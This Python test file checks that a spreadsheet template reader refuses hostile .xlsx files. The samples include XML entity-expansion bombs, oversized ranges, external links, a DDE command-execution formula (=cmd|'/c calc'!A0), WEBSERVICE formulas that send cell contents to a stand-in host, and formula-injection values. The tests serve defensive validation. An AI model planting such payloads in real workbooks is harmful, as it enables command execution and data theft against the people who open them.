"""Workbooks of strangers that mean harm or are none: one clear sentence, at once; what may stay, stays."""

from __future__ import annotations

import io
import time
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation

from data.outward.cells import FilledTemplate, fill_template
from data.outward.template import read_template
from gisgrid.errors import InvalidInput
from gisgrid.records.core.rules import OutwardRows
from gisgrid.records.outward.sheets import OutwardSheet
from tests.data.outward.sheets import add_member, write_template

PLAN = OutwardSheet(sheet="表一", rows=OutwardRows.PERSON, columns={"B": "person.name"})
OUT = "the cell {} holds a formula that may reach out of the workbook: take it out"
MISSES = "the cell {} holds a formula, which would not follow the rows: take it out"


def fault_of(path: Path) -> str:
    """The one sentence by which a file is refused, told within two seconds."""
    began = time.monotonic()
    with pytest.raises(InvalidInput) as raised:
        read_template(path)
    assert time.monotonic() - began < 2
    (fault,) = raised.value.faults
    return str(fault.message)


def changed(path: Path, part: str, old: bytes, new: bytes) -> Path:
    """A workbook with something else in one of its parts."""
    parts = {}
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    assert old in parts[part]
    parts[part] = parts[part].replace(old, new, 1)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return path


def fill(path: Path, *names: str) -> tuple[FilledTemplate, Any]:
    done = fill_template(path, [PLAN], rows={"表一": [{"person.name": name} for name in names]}, cells={})
    return done, openpyxl.load_workbook(io.BytesIO(done.content))


SHEET = "xl/worksheets/sheet1.xml"
ROWS = "the template has {} rows; at most 1000 are taken: leave the rows to fill empty"
WIDE = "cells are merged or linked over more of a sheet than a template has: unmerge them"


@pytest.mark.parametrize(
    ("old", "new", "sentence"),
    [
        (b"</sheetData>", b'<row r="1048576"><c r="A1048576"/></row></sheetData>', ROWS.format(1048576)),
        (b"</sheetData>", b'<row><c r="A99999"/></row></sheetData>', ROWS.format(99999)),
        (b"</sheetData>", b"<row/>" * 100_000 + b"</sheetData>", ROWS.format(100_007)),
        (
            b"</sheetData>",
            b'<row r="9"><c r="XFD9"/></row></sheetData>',
            "16384 columns; at most 100 are read",
        ),
        (b'ref="A1:F1"', b'ref="A1:XFD1048576"', WIDE),
        (b'ref="A1:F1"', b'ref="A:XFD"', WIDE),
        (b'ref="A1:F1"', b'ref="&#65;1:X&#70;D1048576"', WIDE),
        (b"</mergeCells>", b'</mergeCells><hyperlinks><hyperlink ref="A1:XFD99999"/></hyperlinks>', WIDE),
    ],
)
def test_few_bytes_that_reach_far_are_refused_at_once(
    tmp_path: Path, old: bytes, new: bytes, sentence: str
) -> None:
    path = changed(write_template(tmp_path / "a.xlsx"), SHEET, old, new)
    assert fault_of(path) == sentence


def test_entities_are_refused(tmp_path: Path) -> None:
    laughs = b'<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><worksheet'
    path = changed(write_template(tmp_path / "a.xlsx"), SHEET, b"<worksheet", laughs)
    assert fault_of(path) == "the workbook holds an XML entity, as no office program writes: it is not read"


@pytest.mark.parametrize("name", ["表.xls", "表.xlsx", "表.csv", "表.xlsm"])
@pytest.mark.parametrize(
    ("content", "sentence"),
    [
        (b"\xd0\xcf\x11\xe0" + b"\0" * 600, "this is no .xlsx: open it and save it as .xlsx"),
        (
            b"\xd0\xcf\x11\xe0" + b"\0" * 600 + "EncryptedPackage".encode("utf-16-le"),
            "the workbook is locked by a password: save it without one",
        ),
        ("姓名,性别\n".encode("gb18030"), "the archive can't be opened; it may be cut off"),
    ],
)
def test_other_kinds_of_files_are_told_apart(
    tmp_path: Path, name: str, content: bytes, sentence: str
) -> None:
    path = tmp_path / name
    path.write_bytes(content)
    assert fault_of(path) == sentence


@pytest.mark.parametrize("part", ["xl/externalLinks/externalLink1.xml", "xl/connections.xml"])
def test_a_workbook_that_takes_data_from_elsewhere_is_refused(tmp_path: Path, part: str) -> None:
    path = write_template(tmp_path / "a.xlsx")
    add_member(path, part, b"<x/>")
    assert fault_of(path) == "the workbook takes data from other files or addresses: take these links out"


@pytest.mark.parametrize(
    ("place", "formula", "sentence"),
    [
        ("G4", '=WEBSERVICE("http://example.org/"&B4)', OUT),
        ("G4", '=HYPERLINK("http://example.org/"&B4)', OUT),
        ("G2", "=cmd|'/c calc'!A0", OUT),
        ("G2", "=[1]Sheet1!A1", OUT),
        ("G2", "=secret", OUT),
        ("G2", "=_xlfn.FOO(1)", OUT),
        ("G2", "=COUNTA(B4:B6)", MISSES),
        ("G4", "=COUNTA(B4:B6)", MISSES),
        ("G4", "=LEN(B$4)", MISSES),
        ("D4", "=LEN(B4)", MISSES),
        ("G7", "=LEN(B7)", MISSES),
    ],
)
def test_formulas_that_reach_out_or_miss_rows_are_refused(
    tmp_path: Path, place: str, formula: str, sentence: str
) -> None:
    def change(sheet: Any) -> None:
        sheet[place] = formula

    assert fault_of(write_template(tmp_path / "a.xlsx", change)) == sentence.format(place)


def test_a_hidden_sheet_sends_nothing_away_and_misses_no_row(tmp_path: Path) -> None:
    for formula, sentence in (("=WEBSERVICE(表一!B4)", OUT), ("=COUNTA(表一!B4:B6)", MISSES)):

        def change(sheet: Any, formula: str = formula) -> None:
            other = sheet.parent.create_sheet("暗")
            other.sheet_state = "veryHidden"
            other["A1"] = formula

        assert fault_of(write_template(tmp_path / "a.xlsx", change)) == sentence.format("A1")


def test_names_and_rules_reach_nowhere(tmp_path: Path) -> None:
    def name(sheet: Any) -> None:
        sheet.parent.defined_names["外"] = DefinedName("外", attr_text="[1]Sheet1!$A$1")

    def rule(sheet: Any) -> None:
        check = DataValidation(type="custom", formula1='WEBSERVICE("http://example.org")')
        check.add("B4:B6")
        sheet.add_data_validation(check)

    assert "the name 外" in fault_of(write_template(tmp_path / "a.xlsx", name))
    assert "a rule of the sheet" in fault_of(write_template(tmp_path / "b.xlsx", rule))


def test_what_stands_beside_the_table_stays(tmp_path: Path) -> None:
    def change(sheet: Any) -> None:
        sheet["H1"] = '=TEXT(TODAY(),"yyyy-mm-dd")'
        sheet["H2"] = "=COUNTA(B:B)-1"
        sheet["G4"] = "=LEN(B4)"
        hidden = sheet.parent.create_sheet("选项")
        hidden.sheet_state = "hidden"
        hidden["A1"], hidden["A2"], hidden["B1"] = "男", "女", "=A1"
        check = DataValidation(type="list", formula1="选项!$A$1:$A$2")
        check.add("C4:C6")
        sheet.add_data_validation(check)
        sheet.column_dimensions["F"].hidden = True

    path = write_template(tmp_path / "a.xlsx", change)
    done, book = fill(path, *(f"示例{number}" for number in range(9)))
    sheet, hidden = book["表一"], book["选项"]
    assert (sheet["H1"].value, sheet["H2"].value) == ('=TEXT(TODAY(),"yyyy-mm-dd")', "=COUNTA(B:B)-1")
    assert [sheet[f"G{row}"].value for row in range(4, 14)] == [
        *(f"=LEN(B{row})" for row in range(4, 13)),
        None,
    ]
    assert (hidden.sheet_state, hidden["A2"].value, hidden["B1"].value) == ("hidden", "女", "=A1")
    assert sheet.data_validations.dataValidation[0].formula1 == "选项!$A$1:$A$2"
    assert sheet.column_dimensions["F"].hidden
    assert done.counts.prefilled == 9


def test_no_value_becomes_a_formula_or_breaks_the_file(tmp_path: Path) -> None:
    hostile = ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "a\x00\x0bb", "\x00=1", "'x", "x" * 40_000]
    _done, book = fill(write_template(tmp_path / "a.xlsx"), *hostile)
    cells = [book["表一"].cell(row, 2) for row in range(4, 4 + len(hostile))]
    assert {cell.data_type for cell in cells} == {"s"}
    assert not any(str(cell.value).startswith(("=", "+", "-", "@")) for cell in cells)
    assert (cells[6].value, cells[7].value) == ("ab", "'=1")


def test_wide_colons_and_figures_are_read_as_narrow_ones(tmp_path: Path) -> None:
    def change(sheet: Any) -> None:
        sheet["A2"] = "填报单位\uff1a"

    (sheet,) = read_template(write_template(tmp_path / "a.xlsx", change))
    assert ("B2", "填报单位") in [(lead.cell, lead.label) for lead in sheet.leads]
